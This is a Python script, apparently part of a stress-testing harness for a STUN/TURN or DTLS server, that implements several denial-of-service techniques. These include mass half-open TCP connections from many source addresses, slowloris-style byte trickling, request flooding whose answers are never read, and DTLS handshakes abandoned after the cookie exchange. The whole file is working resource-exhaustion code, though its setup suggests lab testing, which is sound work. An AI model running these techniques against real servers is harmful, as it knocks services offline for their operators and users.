"""Connections, and DTLS associations, that are begun and not brought to an end, from as many addresses as wanted.

    strangers.py KIND SOURCES ADDRESS PORT RATE SECONDS [FILE]

KIND says what is done on each, see KINDS; SOURCES is a prefix whose addresses all lead here. RATE is how many are begun
a second at most, or how many requests are sent where nobody reads the answers. So many connections as there may be open
files are held, and the oldest give way to new ones. Prints what was done as a JSON object.
"""

import errno
import ipaddress
import json
import random
import resource
import socket
import struct
import sys
import time
from collections import Counter, deque

READERS = 64
BINDING = struct.pack("!HHI", 0x0001, 0, 0x2112A442)


class Connections:
    """Begins connections and says `greeting` on each, a byte a second where they are to be `slow`."""

    def __init__(self, address, network, greeting, slow=False):
        self.address, self.network = address, network
        self.greeting, self.slow = greeting, slow
        self.counts = Counter()
        self.opening, self.open = deque(), deque()
        limit = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
        resource.setrlimit(resource.RLIMIT_NOFILE, (limit, limit))
        self.most = limit - 100

    def begin(self):
        if len(self.opening) + len(self.open) >= self.most:
            (self.open or self.opening).popleft()[0].close()
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.setblocking(False)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        sock.bind((str(self.network[random.randrange(self.network.num_addresses)]), 0))
        failed = sock.connect_ex(self.address)
        if failed not in (0, errno.EINPROGRESS):
            self.counts[errno.errorcode[failed]] += 1
            return
        self.counts["begun"] += 1
        self.opening.append((sock, time.monotonic()))

    def tend(self):
        """Greets on those that are open by now, and gives up what takes too long."""
        now = time.monotonic()
        for _ in range(min(len(self.opening), 200)):
            sock, began = self.opening.popleft()
            try:
                if self.greeting:
                    sock.send(self.greeting[:1] if self.slow else self.greeting)
                else:
                    sock.getpeername()
                self.counts["open"] += 1
                self.open.append((sock, now))
            except OSError as error:
                if error.errno in (errno.EAGAIN, errno.ENOTCONN) and now - began < 2:
                    self.opening.append((sock, began))
                else:
                    self.counts[errno.errorcode[error.errno]] += 1
        if self.slow:
            for _ in range(min(len(self.open), 200)):
                sock, said = self.open.popleft()
                if now - said < 1:
                    self.open.appendleft((sock, said))
                    break
                try:
                    sock.send(b"\0")
                    self.open.append((sock, now))
                except OSError:
                    self.counts["closed by the server"] += 1


class Unread:
    """Asks and asks on a few connections, and reads no answer."""

    def __init__(self, address, network):
        self.address, self.network = address, network
        self.counts = Counter()
        self.connections = []
        self.requests = b"".join(BINDING + random.randbytes(12) for _ in range(100))

    def begin(self):
        """A hundred requests, as far as the connection takes them."""
        if len(self.connections) < READERS:
            sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            sock.settimeout(1)
            sock.bind((str(self.network[random.randrange(self.network.num_addresses)]), 0))
            try:
                sock.connect(self.address)
            except OSError:
                self.counts["refused"] += 1
                return
            sock.setblocking(False)
            self.connections.append([sock, 0])
            self.counts["open"] += 1
        chosen = random.choice(self.connections)
        try:
            sock, place = chosen
            took = sock.send(self.requests[place:])
            chosen[1] = (place + took) % len(self.requests)
            self.counts["requests"] += took // 20
        except BlockingIOError:
            self.counts["full"] += 1
        except OSError:
            self.counts["closed by the server"] += 1
            self.connections.remove(chosen)

    def tend(self):
        pass


class Handshakes:
    """DTLS handshakes that come back with the cookie and then stop."""

    def __init__(self, address, network, hello):
        self.address, self.network, self.hello = address, network, hello
        self.counts = Counter()
        self.open = deque()

    def begin(self):
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        sock.setblocking(False)
        sock.bind((str(self.network[random.randrange(self.network.num_addresses)]), 0))
        sock.connect(self.address)
        sock.send(self.hello)
        self.counts["begun"] += 1
        self.open.append(sock)
        if len(self.open) > 500:
            self._go_on(self.open.popleft())

    def _go_on(self, sock):
        with sock:
            try:
                answer = sock.recv(2048)
            except OSError:
                self.counts["no answer"] += 1
                return
            # A HelloVerifyRequest: record 13, handshake 12, version 2, cookie.
            if answer[0] != 22 or answer[13] != 3:
                self.counts["another answer"] += 1
                return
            sock.send(with_cookie(self.hello, answer[28 : 28 + answer[27]]))
            self.counts["came back"] += 1

    def tend(self):
        pass


def with_cookie(hello, cookie):
    """The second ClientHello of DTLS 1.2 (RFC 6347, section 4.2.1)."""
    record, handshake, body = hello[:13], hello[13:25], hello[25:]
    at = 35 + body[34]
    body = body[:at] + bytes([len(cookie)]) + cookie + body[at + 1 + body[at] :]
    length = len(body).to_bytes(3, "big")
    handshake = handshake[:1] + length + b"\0\1" + bytes(3) + length
    record = record[:10] + b"\x01" + struct.pack("!H", len(handshake) + len(body))
    return record + handshake + body


def made(kind, address, network, path):
    recorded = open(path, "rb").read() if path else b""
    return {
        "silent": lambda: Connections(address, network, b""),
        "hello": lambda: Connections(address, network, recorded),
        "half-hello": lambda: Connections(address, network, recorded[: len(recorded) // 2]),
        "slow": lambda: Connections(address, network, b"\0\x03\0\x64\x21\x12\xa4\x42", slow=True),
        "unread": lambda: Unread(address, network),
        "handshake": lambda: Handshakes(address, network, recorded),
    }[kind]()


def main(kind, sources, address, port, rate, seconds, path=None):
    rate, seconds = float(rate), float(seconds)
    attack = made(kind, (address, int(port)), ipaddress.ip_network(sources), path)
    print(json.dumps({"ready": True}), flush=True)
    sys.stdin.readline()
    began = now = time.monotonic()
    due = 0.0
    while now - began < seconds:
        last, now = now, time.monotonic()
        due = min(due + (now - last) * rate, 100)
        for _ in range(int(due)):
            attack.begin()
            due -= 1
        attack.tend()
        time.sleep(0.0005)
    print(json.dumps({**attack.counts, "seconds": time.monotonic() - began}), flush=True)


if __name__ == "__main__":
    main(*sys.argv[1:])
